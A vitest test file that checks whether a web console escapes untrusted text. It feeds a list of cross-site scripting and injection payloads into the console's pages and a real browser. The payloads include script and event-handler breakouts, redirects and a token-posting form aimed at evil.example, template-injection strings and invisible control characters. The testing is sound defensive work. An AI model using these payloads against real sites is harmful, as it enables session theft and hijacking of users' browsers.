import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { z } from "zod";
import { hasBrowser, openBrowser } from "../../support/browser.ts";
import type { Wording } from "../../support/story.ts";
import { openConsole, places } from "./open-console.ts";

/** What breaks out of an element, an attribute, a comment, a style, a title; and what only looks harmless. */
const attacks = [
  "<script>document.title='owned'</script>",
  "</title><script>document.title='owned'</script>",
  "</pre></td></table><img src=x onerror=\"document.title='owned'\">",
  `" onmouseover="document.title='owned'" autofocus onfocus="document.title='owned'" x="`,
  `' onfocus='document.title="owned"' autofocus '`,
  "` onerror=alert(1) `",
  "<svg/onload=document.title='owned'>",
  "<a href=javascript:document.title='owned'>click</a>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<base href=https://evil.example/>",
  "<form action=https://evil.example/><input name=token></form>",
  "<!-- --><iframe srcdoc='<script>parent.document.title=1</script>'></iframe>",
  "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62;",
  "<style>*{display:none}</style>",
  "\u202Etxt.exe\u202C \u200b\u2066 \u0000 \u001b[31m\u0007",
  "{{constructor.constructor('alert(1)')()}} ${7*7} <%= 7*7 %>",
  "x".repeat(20_000),
];

const marks = z
  .array(z.object({ text: z.string() }))
  .parse(
    JSON.parse(readFileSync(new URL("../../fixtures/corpora/mrkdwn-attacks.json", import.meta.url), "utf8")),
  );

const wording = (text: string): Wording => ({
  title: text,
  summary: `${text} `,
  service: text,
  author: text,
  evidence: text,
  model: text,
  gap: text,
});

/** What a browser would build, without the words: every tag with the names of its attributes. */
function skeleton(markup: string): string[] {
  return [...markup.matchAll(/<[^>]*>/g)].map(([tag]) =>
    tag.replaceAll(/"[^"]*"/g, '""').replaceAll(/\s+/g, " "),
  );
}

async function readAll(text: string): Promise<{ place: string; markup: string }[]> {
  await using console = await openConsole({ words: wording(text.slice(0, 280)), text });
  const cookie = await console.signIn();
  return await Promise.all(
    places.map(async (place) => ({
      place,
      markup: await (await console.ask(place, { headers: { cookie } })).text(),
    })),
  );
}

describe("text of others in the console", () => {
  it("adds no tag and no attribute to any page, whatever it says", { timeout: 60_000 }, async () => {
    const plain = await readAll("harmless");
    const texts = [...attacks, ...marks.map(({ text }) => text)];
    for (const text of texts) {
      for (const [at, { place, markup }] of (await readAll(text)).entries()) {
        const harmless = plain[at];
        if (harmless === undefined) throw new Error(`${place} was not read without an attack`);
        expect([text, place, skeleton(markup)]).toEqual([text, place, skeleton(harmless.markup)]);
        expect(markup.length).toBeLessThan(400_000);
        expect(markup).not.toMatch(/[^\P{Cc}\n\t]|\p{Cf}/u);
        expect(markup).not.toContain("hunter2hunter2");
      }
    }
  });

  it.skipIf(!hasBrowser())("runs nothing in a real Chromium and asks nothing of anybody", async () => {
    await using browser = await openBrowser();
    const tab = await browser.newPage();
    const trouble: string[] = [];
    tab.on("pageerror", (error) => trouble.push(String(error)));
    tab.on("dialog", (dialog) => void trouble.push(dialog.message()));
    const text = attacks.slice(0, 14).join(" ");
    await using console = await openConsole({ words: wording(text), text });
    tab.on("request", (request) => {
      if (!request.url().startsWith(console.origin)) trouble.push(request.url());
    });
    await tab.goto(console.url);
    await tab.getByLabel("Console token").fill("a-token-of-the-console");
    await tab.getByRole("button", { name: "Sign in" }).click();
    for (const place of places) {
      await tab.goto(`${console.origin}${place}`);
      expect(await tab.title()).not.toBe("owned");
      for (const link of await tab.locator("a[href]").all()) {
        expect(await link.getAttribute("href")).toMatch(/^(\/console\/|#)/);
      }
      expect(new URL(tab.url()).origin).toBe(console.origin);
    }
    expect(trouble).toEqual([]);
  });
});
